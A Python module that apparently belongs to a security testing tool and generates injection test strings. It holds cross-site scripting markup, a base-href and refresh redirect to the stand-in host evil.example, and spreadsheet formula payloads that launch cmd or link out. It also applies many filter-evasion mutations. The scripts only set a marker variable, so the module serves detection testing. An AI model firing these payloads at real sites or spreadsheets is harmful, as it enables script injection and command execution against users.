"""Texts that would run a script, leave their element, or be a formula, if a program let them."""

MARKER = "pinscoutRan"

MARKUP = [
    "<script>{run}</script>", "<img src=x onerror={run}>", "\"><svg onload={run}>", "' onmouseover='{run}",
    "</style><script>{run}</script>", "</title><script>{run}</script>", "</script><script>{run}</script>",
    "<iframe srcdoc='<script>parent.{run}</script>'>", "<a href=javascript:{run}>x</a>", "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>", "--><script>{run}</script>", "<math><mtext></mtext><script>{run}</script>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=x>",
    "<style>*{{display:none}}</style>", "{{{{policy}}}}", "{{{{{{policy}}}}}}", "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;", "\\u003cscript\\u003e{run}", "`${{{run}}}`", "<object data=x onerror={run}>",
    "<form><button formaction=javascript:{run}>x",
]
FORMULAS = [
    "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    "=HYPERLINK(\"//evil.example\",\"x\")", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "=1+1;\"x\"",
]
MUTATIONS = [
    lambda text: text,
    str.upper,
    lambda text: text.replace("<", "<\u0301"),
    lambda text: text.replace("<", "\u0600<"),
    lambda text: text.replace("\"", "\"\u0301"),
    lambda text: text.replace(">", "\u200b>"),
    lambda text: "\u202e" + text,
    lambda text: "\ufeff" + text,
    lambda text: text.replace("=", "&#61;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("script", "scr\u00adipt"),
    lambda text: text + "\u2028" + text,
    lambda text: "x" * 240 + text,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: "\u0085" + text,
    lambda text: "'\"" + text,
    lambda text: text + "\u0301",
    lambda text: text[::-1],
    str.swapcase,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\u00a0"),
]


def payloads(count=500):
    """The first `count` of all mutations of all seeds, every seed before its second mutation."""
    seeds = [seed.format(run=f"window.{MARKER}=1") for seed in MARKUP] + FORMULAS
    texts = dict.fromkeys(mutate(seed) for mutate in MUTATIONS for seed in seeds)
    if len(texts) < count:
        raise ValueError(f"only {len(texts)} different texts")
    return list(texts)[:count]
